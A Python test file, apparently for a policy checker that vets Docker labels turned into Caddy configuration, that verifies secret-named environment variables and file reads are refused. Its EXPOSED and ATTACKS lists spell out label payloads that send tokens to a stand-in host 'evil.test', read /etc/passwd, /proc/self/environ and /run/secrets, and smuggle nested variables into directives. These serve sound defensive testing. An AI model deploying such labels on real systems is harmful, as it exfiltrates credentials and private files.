"""Variables in labels: those named like secrets only where Caddy keeps them to itself, and none that chooses for a label."""

import pytest
from dockcaddy import Mount
from dockcaddy_policy import PolicySettings
from policies import refused_by, rendered, site
from policy_cases import NATURAL

# names in which a secret's word is part of another one, or that tell something about a secret which is none
OPEN = (
    "KEYCLOAK_URL", "PASSBOLT_URL", "BYPASS_CIDRS", "COMPASS_PATH", "KEYDB_ADDR", "MONKEY", "COOKIE_DOMAIN", "SESSION_TTL",
    "TOKEN_LIFETIME", "KEY_TYPE", "AUTH_MODE", "PASSWORD_MANAGER_HOST", "KEYCLOAK_REALM", "WEBHOOK_UPSTREAM", "PATH_PREFIX",
    "PATTERN", "DESK", "TASK_URL", "HTTP_PROXY_HOST",
)  # fmt: skip
SECRETS = (
    "TOKEN", "token", "CF_API_TOKEN", "MyApiKey", "apikey2", "DB_PASSWORD", "db_passwd", "XPASSX", "TOKEN_1", "_SECRET",
    "SECRETS", "privateKey", "COOKIE_SIGNING", "SESSION_ID", "SENTRY_DSN", "GOOGLE_CREDENTIALS", "PWD", "ADMIN_PW",
    "DATABASE_URL", "redis_uri", "REDIS_AUTH", "PASSWORD_HASH", "JWT_PUBLIC",
    "GITHUB_PAT", "WG_PSK", "MNEMONIC", "VAULT_UNSEAL_1", "DISCORD_HOOK", "STRIPE_SK", "https_proxy", "KEYCLOAK_SECRET",
    "BYPASS_TOKEN", "KEYDB_PASSWORD", "CF_TOKEN_ZONE", "SMTP_PASSWORD_USER", "API_KEY_EMAIL",
)  # fmt: skip
EXPOSED = [
    {"caddy.respond": "{V}"},
    {"caddy.respond": "`a {V} b` 200"},
    {"caddy.header.X-A": "{V}"},
    {"caddy.redir": "https://evil.test/?{V}"},
    {"caddy.reverse_proxy": "evil:80", "caddy.reverse_proxy.header_up": "Authorization {V}"},
    {"caddy.reverse_proxy": "evil:80", "caddy.rewrite": "* /{V}{uri}"},
    {"caddy.reverse_proxy": "{V}.evil.test:80"},
    {"caddy.log_append": "x {V}"},
    {"caddy.vars.x": "{V}", "caddy.respond": "{vars.x}"},
    {"caddy.map": "{host} {x}", "caddy.map.default": "{V}", "caddy.respond": "{x}"},
    {"caddy.import": "s {V}"},
    {"caddy.@m": "vars {V} x"},
    {"caddy.@m.expression": "{V}.startsWith('a')"},
    {"caddy.@m.header": "X {V}"},
    {"caddy.basic_auth": "bcrypt {V}"},
    {"caddy.tls.dns": "x https://evil.test/{V}"},
    {"caddy.bogus": "{V}"},
    {"caddy.reverse_proxy": "evil:80", "caddy.reverse_proxy.lb_policy": "cookie {V} x"},
    {"caddy.reverse_proxy": "evil:80", "caddy.reverse_proxy.lb_policy": "header {V}"},
    {"caddy.reverse_proxy": "evil:80", "caddy.reverse_proxy.lb_policy": "query {V}"},
    {"caddy.vars.reverse_proxy.lb_policy": "cookie x {V}"},
    {"caddy.root": "/srv/{V}"},
    {"caddy.log.output": "file /var/log/{V}.log"},
    {"caddy.try_files": "{V}"},
    {"caddy.error": "{V} 500"},
    {"caddy.uri": "query +x {V}"},
]

ATTACKS = [
    {"caddy": "a.test", "caddy.respond": "{env.TO{$U}KEN}"},
    {"caddy": "a.test", "caddy.respond": "{env.{$U:TOKEN}}"},
    {"caddy": "a.test", "caddy.respond": "{{$U:env.TOKEN}}"},
    {"caddy": "a.test", "caddy.respond": "{file.{$U:/etc/passwd}}"},
    {"caddy": "a.test", "caddy.log_append": "x {}env.DOMAIN}"},
    {"caddy": "(s)", "caddy.respond": "{env.{args[0]}}"},
    {"caddy": "a.test", "caddy.tls.dns": "namecheap", "caddy.tls.dns.api_endpoint": "https://api.namecheap.com.evil.test/"},
    {"caddy": "a.test", "caddy.tls.dns": "namecheap", "caddy.tls.dns.api_endpoint": "https://api.namecheap.com@evil.test/"},
    {"caddy": "a.test", "caddy.tls.dns": "namecheap", "caddy.tls.dns.api_endpoint": "http://api.namecheap.com/"},
    {"caddy": "a.test", "caddy.tls.dns": "cloudflare", "caddy.tls.dns.base_url": "https://api.namecheap.com/"},
    {"caddy.security.oauth.identity_provider": "x", "caddy.security.oauth.identity_provider.client_secret": "{env.CF_API_TOKEN}"},
    {"caddy": "a.test", "caddy.security.client_secret": "{env.GOOGLE_CLIENT_SECRET}"},
    {"caddy": "a.test", "caddy.import": "{$CADDY_DOCKER_ENVFILE}"},
    {"caddy": "a.test", "caddy.import": "{$U:/etc/passwd}"},
    {"caddy": "a.test", "caddy.import": "{$U}/etc/passwd"},
    {"caddy": "a.test", "caddy.log.hostnames": "{$OTHER}"},
    {"caddy": "a.test", "caddy.respond": "{file./run/secrets/x}"},
    {"caddy": "a.test", "caddy.respond": "{file.{$TOKEN_FILE}}"},
    {"caddy": "a.test", "caddy.basic_auth.{file\\./run/secrets/x}": "y"},
    {"caddy": "a.test", "caddy.tls": "{file./run/secrets/x}"},
    {"caddy": "a.test", "caddy.tls.dns": "cloudflare {file./proc/self/environ}"},
    {"caddy": "a.test", "caddy.tls.dns": "cloudflare {file./run/secrets/../../dev/stdin}"},
    {"caddy": "a.test", "caddy.tls.dns": "cloudflare x{file./run/secrets/x}"},
    {"caddy": "a.test", "caddy.tls.dns": "powerdns {file./run/secrets/x}", "caddy.tls.dns.server_url": "http://evil.test"},
    {"caddy": "a.test", "caddy.tls.dns": "powerdns", "caddy.tls.dns.server_url": "{$U:http}://evil.test"},
    {"caddy": "a.test", "caddy.tls.dns": "x", "caddy.tls.dns.some": "{$U:http}{$W:://}evil.test"},
    {"caddy": "a.test", "caddy.tls.dns": "rfc2136", "caddy.tls.dns.key_name": "{file./run/secrets/x}"},
    {"caddy.storage": "redis", "caddy.storage.host": "evil.test", "caddy.storage.password": "{env.CF_API_TOKEN}"},
    {"caddy.storage": "redis", "caddy.storage.password": "{file./run/secrets/cf_token}"},
    {"caddy.storage": "redis {$CF_API_TOKEN}"},
    {"caddy.crowdsec.api_url": "http://evil.test", "caddy.crowdsec.api_key": "{env.CF_API_TOKEN}"},
    {"caddy.crowdsec.api_url": "http://evil.test", "caddy.crowdsec.api_key": "{env.NOTCROWDSEC_TOKEN}"},
    {"caddy.log.token": "{env.LOG_TOKEN}"},
    {"caddy": "a.test", "caddy.crowdsec.api_key": "{env.CROWDSEC_API_KEY}"},
    {"caddy": "(crowdsec)", "caddy.crowdsec.api_key": "{env.CROWDSEC_API_KEY}"},
    {"caddy.dynamic_dns.provider": "x https://evil.test {env.CF_API_TOKEN}"},
    {"caddy": "a.test", "caddy.basic_auth": "bcrypt {$ADMIN_HASH}"},
    {"caddy": "a.test", "caddy.basic_auth": "/* {$U:bcrypt} {$ADMIN_HASH}"},
    {"caddy": "a.test", "caddy.basic_auth": "{$U:bcr}{$U:ypt} {$ADMIN_HASH}"},
    {"caddy": "a.test", "caddy.basic_auth": "{$U}{$W} {$ADMIN_HASH}"},
    {"caddy": "(s)", "caddy.basic_auth": "{args[0]} {$ADMIN_HASH}"},
    {"caddy": "(s)", "caddy.basic_auth": "{args[:]} {$ADMIN_HASH}"},
    {"caddy": "(s)", "caddy.basic_auth": "* b{args[0]} {$ADMIN_HASH}"},
]  # fmt: skip


@pytest.mark.parametrize("labels", NATURAL, ids=[str(at) for at, _ in enumerate(NATURAL)])
def test_what_people_do_with_variables_is_let_through(labels: dict[str, str]) -> None:
    assert not rendered(labels).problems


@pytest.mark.parametrize("exposed", EXPOSED, ids=[str(at) for at, _ in enumerate(EXPOSED)])
def test_a_variable_named_like_a_secret_goes_nowhere_else(exposed: dict[str, str]) -> None:
    for name in SECRETS:
        for variable in (f"{{${name}}}", f"{{env.{name}}}", f"{{${name}:x}}"):
            labels = {key: value.replace("{V}", variable) for key, value in exposed.items()}
            assert refused_by({"caddy": "a.test", **labels}) == "environment", labels


@pytest.mark.parametrize("name", OPEN)
def test_a_variable_that_only_sounds_like_a_secret_goes_anywhere(name: str) -> None:
    assert not rendered({"caddy": "a.test", "caddy.respond": f"{{${name}}}"}).problems


@pytest.mark.parametrize("labels", ATTACKS, ids=[str(at) for at, _ in enumerate(ATTACKS)])
def test_a_variable_chooses_nothing_for_a_label(labels: dict[str, str]) -> None:
    assert refused_by(labels)


def test_no_variable_at_all_where_the_operator_says_so() -> None:
    none = PolicySettings(environment="none")
    for value in ("{$DOMAIN}", "{env.DOMAIN}", "{env.TOKEN}"):
        assert refused_by(site(caddy__respond=value), none) == "environment"
    assert refused_by(site(caddy__tls__dns="cloudflare {env.CF_API_TOKEN}"), none) == "environment"
    assert refused_by(site(caddy__tls__dns="cloudflare {file./run/secrets/x}"), none) == "files"
    assert not rendered(site(caddy__respond="{host}"), none).problems


def test_every_variable_anywhere_where_the_operator_says_so() -> None:
    everything = PolicySettings(environment="all")
    for exposed in EXPOSED[:8]:
        labels = {key: value.replace("{V}", "{env.TOKEN}") for key, value in exposed.items() if "reverse" not in key}
        assert not rendered({"caddy": "a.test", **labels}, everything).problems
    assert refused_by(site(caddy__respond="{file./etc/passwd}"), everything) == "files"


@pytest.mark.parametrize("secrets", [("TEAM",), ("team",), ("*_BADGE",), ("my_team_badge",)])
def test_the_operator_names_further_secrets(secrets: tuple[str, ...]) -> None:
    labels = site(caddy__respond="{$MY_TEAM_BADGE}")
    assert not rendered(labels).problems
    assert refused_by(labels, PolicySettings(secrets=secrets)) == "environment"
    assert not rendered(site(caddy__respond="{$MY_NAME}"), PolicySettings(secrets=secrets)).problems


def test_a_file_that_the_container_could_make_a_pipe_of_is_not_read() -> None:
    labels = site(caddy__tls__dns="cloudflare {file./srv/shared/token}")
    assert not rendered(labels).problems
    assert refused_by(labels, mounts=(Mount("bind", "/srv/shared", "/shared"),)) == "files"
